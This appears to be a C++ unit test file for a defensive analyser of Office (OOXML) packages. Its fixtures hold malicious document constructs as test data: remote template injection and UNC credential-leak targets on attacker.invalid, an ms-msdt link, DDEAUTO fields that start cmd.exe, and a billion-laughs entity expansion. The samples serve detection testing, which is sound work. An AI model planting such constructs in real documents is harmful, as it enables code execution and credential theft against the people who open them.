// The package analysis on parts written here: every finding it makes and every look-alike it must
// leave alone.
#include "package_analysis.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tollgate::ooxml {
namespace {

std::span<const uint8_t> AsBytes(std::string_view text) {
  return {reinterpret_cast<const uint8_t*>(text.data()), text.size()};
}

std::string Relationships(std::string_view body) {
  return std::string(R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)") +
         R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)" + std::string(body) +
         "</Relationships>";
}

std::string External(std::string_view id, std::string_view type, std::string_view target) {
  return "<Relationship Id=\"" + std::string(id) +
         "\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + std::string(type) +
         "\" Target=\"" + std::string(target) + "\" TargetMode=\"External\"/>";
}

std::string WordDocument(std::string_view body) {
  return std::string(R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>)") +
         std::string(body) + "</w:body></w:document>";
}

// Every finding as "rule severity object: detail".
std::vector<std::string> Analyse(const std::vector<std::pair<std::string, std::string>>& parts) {
  PackageAnalysis analysis{ObjectPath("doc.docx")};
  for (const auto& [name, content] : parts) {
    analysis.NotePart(name);
    analysis.InspectPart(name, AsBytes(content));
  }
  std::vector<std::string> findings;
  for (const Finding& f : analysis.TakeFindings()) {
    findings.push_back(f.rule + " " + std::string(ToString(f.severity)) + " " + f.object + ": " + f.detail);
  }
  return findings;
}

TEST(ClassifyExternalTarget, NamesWhereATargetPoints) {
  EXPECT_EQ(ClassifyExternalTarget("http://example.invalid/t.dotm"), TargetKind::kWeb);
  EXPECT_EQ(ClassifyExternalTarget(" HTTPS://example.invalid/"), TargetKind::kWeb);
  EXPECT_EQ(ClassifyExternalTarget("mailto:sales@example.invalid"), TargetKind::kMail);
  EXPECT_EQ(ClassifyExternalTarget("file:///C:/Users/me/Templates/Normal.dotm"), TargetKind::kLocalFile);
  EXPECT_EQ(ClassifyExternalTarget("file://localhost/C:/t.dotm"), TargetKind::kLocalFile);
  EXPECT_EQ(ClassifyExternalTarget("C:\\Templates\\t.dotm"), TargetKind::kLocalFile);
  EXPECT_EQ(ClassifyExternalTarget("file://attacker.invalid/share/t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("file:\\\\attacker.invalid\\share\\t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("\\\\attacker.invalid\\share\\t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("file:////attacker.invalid/share/t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("file://///attacker.invalid/share/t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("//attacker.invalid/share/t.dotm"), TargetKind::kRemoteFile);
  EXPECT_EQ(ClassifyExternalTarget("ms-msdt:/id PCWDiagnostic"), TargetKind::kOtherScheme);
  EXPECT_EQ(ClassifyExternalTarget("mhtml:http://example.invalid/x!x"), TargetKind::kOtherScheme);
  EXPECT_EQ(ClassifyExternalTarget("other.docx"), TargetKind::kRelative);
  EXPECT_EQ(ClassifyExternalTarget("../reports/q3.xlsx"), TargetKind::kRelative);
}

TEST(ResolveInternalTarget, ResolvesAgainstTheSourcePart) {
  EXPECT_EQ(ResolveInternalTarget("word/_rels/document.xml.rels", "vbaProject.bin"), "word/vbaProject.bin");
  EXPECT_EQ(ResolveInternalTarget("word/_rels/document.xml.rels", "embeddings/oleObject1.bin"),
            "word/embeddings/oleObject1.bin");
  EXPECT_EQ(ResolveInternalTarget("xl/worksheets/_rels/sheet1.xml.rels", "../activeX/activeX1.xml"),
            "xl/activeX/activeX1.xml");
  EXPECT_EQ(ResolveInternalTarget("_rels/.rels", "word/document.xml"), "word/document.xml");
  EXPECT_EQ(ResolveInternalTarget("word/_rels/document.xml.rels", "/customXml/item1.xml"), "customXml/item1.xml");
  EXPECT_EQ(ResolveInternalTarget("word/_rels/document.xml.rels", "../../outside.bin"), "");
}

TEST(PackageAnalysis, RemoteTemplateIsHighAtItsRelationshipsPart) {
  EXPECT_EQ(Analyse({{"word/_rels/settings.xml.rels",
                      Relationships(External("rId1", "attachedTemplate", "http://example.invalid/t.dotm"))}}),
            std::vector<std::string>{"Tollgate.OOXML.ExternalTemplate high doc.docx>word/_rels/settings.xml.rels: "
                                     "relationship rId1 loads the document's template from a web address (remote "
                                     "template injection)"});
  EXPECT_EQ(Analyse({{"word/_rels/settings.xml.rels",
                      Relationships(External("rId7", "attachedTemplate", "\\\\attacker.invalid\\t.dotm"))}}),
            std::vector<std::string>{"Tollgate.OOXML.ExternalTemplate high doc.docx>word/_rels/settings.xml.rels: "
                                     "relationship rId7 loads the document's template from a file on another host "
                                     "(UNC) (remote template injection)"});
}

TEST(PackageAnalysis, LocalTemplateAndWebOrMailHyperlinksAreNoFinding) {
  EXPECT_EQ(Analyse({{"word/_rels/settings.xml.rels",
                      Relationships(External("rId1", "attachedTemplate", "file:///C:/Users/me/Templates/Letter.dotx"))},
                     {"word/_rels/document.xml.rels",
                      Relationships(External("rId2", "hyperlink", "https://example.invalid/prices") +
                                    External("rId3", "hyperlink", "mailto:sales@example.invalid") +
                                    External("rId4", "hyperlink", "other.docx"))}}),
            std::vector<std::string>{});
}

TEST(PackageAnalysis, ExternalOleObjectsFramesAndNonWebTargets) {
  EXPECT_EQ(
      Analyse({{"word/_rels/document.xml.rels",
                Relationships(External("rId1", "oleObject", "mhtml:http://example.invalid/x!x") +
                              External("rId2", "frame", "http://example.invalid/frame.html") +
                              External("rId3", "hyperlink", "file://attacker.invalid/share/a.lnk") +
                              External("rId4", "image", "\\\\attacker.invalid\\leak.png") +
                              External("rId5", "hyperlink", "ms-msdt:/id PCWDiagnostic"))}}),
      (std::vector<std::string>{
          "Tollgate.OOXML.ExternalFrame medium doc.docx>word/_rels/document.xml.rels: relationship rId2 loads a frame "
          "from a web address",
          // One finding per rule and part, naming the first relationship.
          "Tollgate.OOXML.ExternalNonWebTarget medium doc.docx>word/_rels/document.xml.rels: hyperlink relationship "
          "rId3 points to a file on another host (UNC) (and 2 more)",
          "Tollgate.OOXML.ExternalOleObject high doc.docx>word/_rels/document.xml.rels: relationship rId1 links an OLE "
          "object from a non-web URI scheme"}));
}

TEST(PackageAnalysis, RelationshipsOutsideTheirNamespaceAreIgnored) {
  EXPECT_EQ(Analyse({{"word/_rels/settings.xml.rels",
                      R"(<Relationships xmlns="urn:other"><Relationship Id="rId1" Type="x/attachedTemplate" )"
                      R"(Target="http://example.invalid/t.dotm" TargetMode="External"/></Relationships>)"}}),
            std::vector<std::string>{});
}

TEST(PackageAnalysis, DdeFieldsAreHighWhereverTheirNameIsSplitOrNested) {
  const std::string split_complex_field =
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">   DDE</w:instrText></w:r>)"
      R"(<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k echo x"</w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  EXPECT_EQ(Analyse({{"word/document.xml", WordDocument(split_complex_field)}}),
            std::vector<std::string>{"Tollgate.OOXML.DDEField high doc.docx>word/document.xml: DDEAUTO field: the "
                                     "document starts another program through DDE"});
  const std::string simple_and_nested =
      R"(<w:p><w:fldSimple w:instr=" dde excel &quot;x&quot;"/></w:p>)"
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c x"</w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  const std::string blank_between =
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">DDE </w:instrText></w:r>)"
      R"(<w:r><w:instrText>AUTO</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  EXPECT_EQ(Analyse({{"word/header1.xml", WordDocument(blank_between)}}),
            std::vector<std::string>{"Tollgate.OOXML.DDEField high doc.docx>word/header1.xml: DDE field: the document "
                                     "starts another program through DDE"});
  EXPECT_EQ(Analyse({{"word/footer1.xml", WordDocument(simple_and_nested)}}),
            (std::vector<std::string>{
                "Tollgate.OOXML.DDEField high doc.docx>word/footer1.xml: DDE field: the document starts another "
                "program through DDE",
                "Tollgate.OOXML.DDEField high doc.docx>word/footer1.xml: DDEAUTO field: the document starts another "
                "program through DDE"}));
}

TEST(PackageAnalysis, FieldsNestedBeyondTheLimitAreCountedNotRead) {
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += R"(<w:r><w:fldChar w:fldCharType="begin"/></w:r>)";
  deep += R"(<w:r><w:instrText>DDE too deep</w:instrText></w:r>)";
  for (int i = 0; i < 5000; ++i) deep += R"(<w:r><w:fldChar w:fldCharType="end"/></w:r>)";
  // The field after them is read again.
  deep += R"(<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r>)"
          R"(<w:r><w:fldChar w:fldCharType="end"/></w:r>)";
  EXPECT_EQ(Analyse({{"word/document.xml", WordDocument("<w:p>" + deep + "</w:p>")}}),
            std::vector<std::string>{"Tollgate.OOXML.DDEField high doc.docx>word/document.xml: DDEAUTO field: the "
                                     "document starts another program through DDE"});
}

TEST(PackageAnalysis, OtherFieldsAndDdeAsPlainTextAreNoFinding) {
  const std::string body =
      R"(<w:p><w:r><w:t>DDEAUTO is a field type; this text only names it.</w:t></w:r></w:p>)"
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://example.invalid/" </w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="PAGE"/></w:p>)";
  EXPECT_EQ(Analyse({{"word/document.xml", WordDocument(body)}}), std::vector<std::string>{});
}

TEST(PackageAnalysis, MacrosActiveXAndOleObjectsByNameOrRelationship) {
  const std::string document_rels = Relationships(
      R"(<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="macros.bin"/>)"
      R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="controls/c1.xml"/>)"
      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="missing.bin"/>)");
  EXPECT_EQ(Analyse({{"word/_rels/document.xml.rels", document_rels},
                     {"word/macros.bin", "binary"},
                     {"word/controls/c1.xml", "<x/>"},
                     {"xl/activeX/activeX1.xml", "<x/>"},
                     {"xl/activeX/_rels/activeX1.xml.rels", Relationships("")},
                     {"ppt/embeddings/oleObject2.bin", "binary"},
                     {"customXml/vbaProject.bin", "binary"}}),
            (std::vector<std::string>{
                "Tollgate.OOXML.VBAProject medium doc.docx>customXml/vbaProject.bin: VBA project part: the document "
                "has macros",
                "Tollgate.OOXML.EmbeddedOleObject low doc.docx>ppt/embeddings/oleObject2.bin: embedded OLE object part",
                "Tollgate.OOXML.ActiveX medium doc.docx>word/controls/c1.xml: ActiveX control part",
                "Tollgate.OOXML.VBAProject medium doc.docx>word/macros.bin: VBA project part: the document has macros",
                "Tollgate.OOXML.ActiveX medium doc.docx>xl/activeX/activeX1.xml: ActiveX control part"}));
}

TEST(PackageAnalysis, MalformedXmlAndDtdsAreParseErrors) {
  const std::string laughs =
      R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">)"
      R"(<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="&c;" Type="x/hyperlink" Target="&c;" TargetMode="External"/></Relationships>)";
  EXPECT_EQ(
      Analyse({{"_rels/.rels", laughs},
               {"word/_rels/document.xml.rels", "<Relationships><Relationship"},
               {"word/document.xml",
                "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:instrText>"}}),
      (std::vector<std::string>{
          "Tollgate.Incomplete.parse_error high doc.docx>_rels/.rels: OOXML relationships part: declares a DTD, "
          "which OOXML forbids",
          "Tollgate.Incomplete.parse_error high doc.docx>word/_rels/document.xml.rels: OOXML relationships part: "
          "not well-formed XML",
          "Tollgate.Incomplete.parse_error high doc.docx>word/document.xml: OOXML part: not well-formed XML"}));
}

TEST(PackageAnalysis, RelationshipsBeforeAFaultStillCount) {
  const std::string cut = Relationships(External("rId1", "attachedTemplate", "http://example.invalid/t.dotm"));
  EXPECT_EQ(
      Analyse({{"word/_rels/settings.xml.rels", cut.substr(0, cut.size() - 5)}}),
      (std::vector<std::string>{
          "Tollgate.Incomplete.parse_error high doc.docx>word/_rels/settings.xml.rels: OOXML relationships part: "
          "not well-formed XML",
          "Tollgate.OOXML.ExternalTemplate high doc.docx>word/_rels/settings.xml.rels: relationship rId1 loads the "
          "document's template from a web address (remote template injection)"}));
}

TEST(PackageAnalysis, SurvivesEveryTruncationAndCorruptionOfItsParts) {
  const std::string rels = Relationships(External("rId1", "attachedTemplate", "http://example.invalid/t.dotm"));
  const std::string document = WordDocument(
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)");
  for (const auto& [name, content] : {std::pair{std::string("word/_rels/settings.xml.rels"), rels},
                                      std::pair{std::string("word/document.xml"), document}}) {
    for (size_t length = 0; length <= content.size(); ++length) {
      (void)Analyse({{name, content.substr(0, length)}});
    }
    for (size_t at = 0; at < content.size(); ++at) {
      std::string corrupt = content;
      corrupt[at] = static_cast<char>(corrupt[at] ^ 0x80);
      (void)Analyse({{name, corrupt}});
    }
  }
  // The intact parts still give their findings afterwards: the parser kept no state.
  EXPECT_EQ(Analyse({{"word/document.xml", document}}).size(), 1u);
}

}  // namespace
}  // namespace tollgate::ooxml
